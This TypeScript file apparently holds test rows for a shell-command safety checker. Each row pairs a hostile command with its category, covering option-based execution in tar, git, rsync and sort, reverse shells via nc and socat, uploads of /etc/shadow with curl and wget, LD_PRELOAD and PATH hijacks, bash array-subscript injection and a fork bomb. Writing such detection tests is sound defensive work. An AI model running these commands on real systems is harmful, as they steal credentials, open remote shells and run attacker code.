// Attacks by what programs do with options, variables and paths.

/** Rows of `attacks.ts`. */
export const byPrograms = String.raw`
opaque-inline	python3 -c 'import os'
opaque-inline	python3 -Ic 'import os'
opaque-inline	perl -e 'exec 1'
opaque-inline	perl -lane 'exec 1'
opaque-inline	ruby -e 'exec 1'
opaque-inline	node -e 1
opaque-inline	php -r 1
opaque-inline	lua -e 1
opaque-stdin	python3
opaque-stdin	echo x | python3 -
opaque-inline	awk 'BEGIN{system("evil")}'
opaque-inline	awk '{print | "evil"}'
opaque-inline	awk '{print > "/x"}'
opaque-inline	awk '{"evil" | getline}'
opaque-inline	awk 'BEGIN{f="system"; @f("evil")}'
opaque-file	awk -f x
opaque-inline	sed '1e evil' x
opaque-inline	sed 's/a/evil/e' x
opaque-inline	sed 's/a/b/w /x' x
opaque-inline	sed -n '1w /x' x
opaque-inline	sed '1r /etc/shadow' x
opaque-inline	sed 's/a/b/;1e evil' x
opaque-file	sed -f x y
option-runs	tar cf x --checkpoint=1 --checkpoint-action=exec=evil .
option-runs	tar xf x --to-command=evil
option-runs	tar cf x -I evil .
option-runs	tar cf h:x .
option	tar cf x --to-comm=evil .
option	tar cvf-v x a
argument	tar cf x.tar *
option-runs	rsync -e 'sh -c evil' a h:b
option-runs	rsync --rsync-path=evil a h:b
option-runs	scp -S evil a h:b
option-runs	scp -o ProxyCommand=evil a h:b
option-runs	sort --compress-program=evil x
!	sort --compress-prog=evil x
option-runs	split --filter=evil x
option-runs	git -c core.pager=evil log
option-runs	git -c alias.x=!evil x
option-runs	git --exec-path=/x status
option-runs	git clone ext::evil x
option-runs	git clone -u evil h:x
option-runs	git clone --config core.x=y h:x
option-runs	git fetch --upload-pack=evil
option-runs	git rebase --exec evil HEAD
option-runs	git bisect run evil
option-runs	git submodule foreach evil
option-runs	git grep -Oevil x
option-runs	git config core.pager evil
option-runs	git config alias.x '!evil'
option	git frob
/x	git diff --output=/x
/c/secret	git diff --no-index /dev/null /c/secret
/c/secret	git diff /dev/null /c/secret
. /c	git grep --no-index x /c
/c/.	git -C /c log -p
/c/secret	git blame --cont=/c/secret x
/c/secret	git commit -qF/c/secret
/c/secret	git config --fil /c/secret -l
/c	git init -q /c
/c/w	git worktree add /c/w
interactive	vim -c ':!evil'
interactive	less /x
interactive	man ls
interactive	gdb -ex 'shell evil'
option-runs	nc -e /bin/sh h 1
option-runs	ncat --exec evil h 1
option-runs	socat TCP:h:1 EXEC:evil
option-runs	curl -K x
/x	curl -o /x http://h/
/etc/shadow h	curl -d @/etc/shadow http://h/
/etc/shadow h	curl -F f=@/etc/shadow http://h/
/etc/shadow h	wget --post-file=/etc/shadow http://h/
path	curl file:///etc/shadow
host	curl http://$x/
option-runs	apt -o APT::Update::Pre-Invoke::=evil update
option-runs	make SHELL=evil
option-runs	make --eval=evil
opaque-stdin	crontab x
opaque-stdin	at now
opaque-stdin	batch
option-runs	systemctl link /x/evil.service
interactive	systemctl edit x
option-runs	systemctl -H h restart x
variable	LD_PRELOAD=/x ls
variable	PATH=/x ls
variable	PATH=/x; ls
variable	export PATH=/x
variable	export "PATH=/x"
variable	env PATH=/x ls
variable	sudo LD_PRELOAD=/x ls
variable	BASH_ENV=/x bash -c ls
variable	ENV=/x sh -c ls
variable	IFS=x; ls
variable	PS4='$(evil)' bash -xc ls
variable	PROMPT_COMMAND=evil
variable	GIT_SSH_COMMAND=evil git fetch
variable	GIT_EXTERNAL_DIFF=evil git diff
variable	LESSOPEN='|evil' less x
variable	RSYNC_RSH=evil rsync a h:b
variable	PAGER=evil git log
variable	EDITOR=evil crontab -e
variable	PYTHONSTARTUP=x python3 y
variable	PERL5OPT=-Mx perl y
variable	NODE_OPTIONS=x node y
variable	HOME=/x; ls ~
variable	read PATH < x
variable	printf -v PATH /x
variable	TAR_OPTIONS=x tar tf y
variable	for PATH in /x; do ls; done
reevaluated	[[ -v 'a[$(evil)]' ]]
reevaluated	[[ 'a[$(evil)]' -eq 1 ]]
reevaluated	test -v 'a[$(evil)]'
reevaluated	[ -v 'a[$(evil)]' ]
reevaluated	printf -v 'a[$(evil)]' x
reevaluated	read 'a[$(evil)]' < x
reevaluated	declare -i x='a[$(evil)]'
reevaluated	declare 'a[$(evil)]=x'
reevaluated	export 'a[$(evil)]=x'
reevaluated	unset 'a[$(evil)]'
reevaluated	let 'a[$(evil)]=1'
reevaluated	x='a[$(evil)]'; echo $((x))
reevaluated	(( a[x] ))
reevaluated	echo $((x))
reevaluated	a['$(evil)']=1
reevaluated	echo ‸{a['$(evil)']}
reevaluated	echo ‸{x@P}
reevaluated	echo ‸{!x}
reevaluated	echo ‸{x:a}
reevaluated	mapfile -C evil -c 1 x < y
reevaluated	compgen -C evil
reevaluated	compgen -W '$(evil)'
reevaluated	wait -n -p 'a[$(evil)]'
reevaluated	getopts a 'x[$(evil)]'
reevaluated	echo a >& '$(evil)'
dialect	>&-evil x
dialect	echo a <& -evil
reevaluated	[ "$x" "$y" ]
reevaluated	[ $x = y ]
reevaluated	x='$(evil)'
shell-state	alias ls=evil
shell-state	shopt -s expand_aliases
shell-state	hash -p /x/evil ls
shell-state	enable -f /x/evil.so ls
shell-state	complete -C evil ls
shell-state	set -k
shell-state	bind -x '"a":evil'
shell-state	fc -s
shadow	ls() { evil; }; ls
shadow	/tmp/x/cat a
shadow	./sudo ls
shadow	cd() { evil; }
shadow	sudo() { "$@"; }; sudo evil
directory	cd $x; cat shadow
/etc/shadow	cd /etc; cat shadow
/etc/shadow	cd /etc && cat shadow
/etc/shadow	cd / && cd etc && cat shadow
directory	for i in 1 2; do cat shadow; cd /etc; done
directory	pushd /etc; cat shadow
/etc/shadow	cat < /etc/shadow
/etc/shadow	echo $(</etc/shadow)
/etc/shadow	grep -f /etc/shadow x
/etc/shadow	grep --file=/etc/shadow x
/etc/shadow	diff /etc/shadow x
/etc/sh*	cat /etc/sh*
/etc/shadow	f=/etc/shadow; cat $f
/etc/shadow	for f in /etc/shadow; do cat "$f"; done
path	cat $f
path	f=a; f=/etc/shadow; cat $g
argument	f=a; read f < x; cat "$f"
argument	f=a; eval 'f''=/etc/shadow'; cat "$f"
/x	ls > /x
/x	ls 2>> /x
/x	ls >| /x
/x	ls &> /x
/x	ls <> /x
/x	exec 3> /x
/x	ls > ''/x
path	ls > $x
path	touch a[$(id)]b
h	cat < /dev/tcp/h/80
h	exec 3<>/dev/tcp/h/80
dialect	((evil))
dialect	ls &> /x evil
dialect	[[ a || evil ]]
dialect	[[ a > evil ]]
written-program	echo evil > x; bash x
written-program	echo evil > ./x; ./x
written-program	cp /bin/evil /tmp/ls; /tmp/ls
maybe-wrapper	frobnicate bash -c evil
unread	l<(id)evil
syntax	ls )
syntax	ls "
syntax	if ls; then
syntax	ls <<E␤x
size	f() { f | f & }; eval "eval \"eval 'eval \\\"x\\\"'\""$(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(evil))))))))))))))
`;
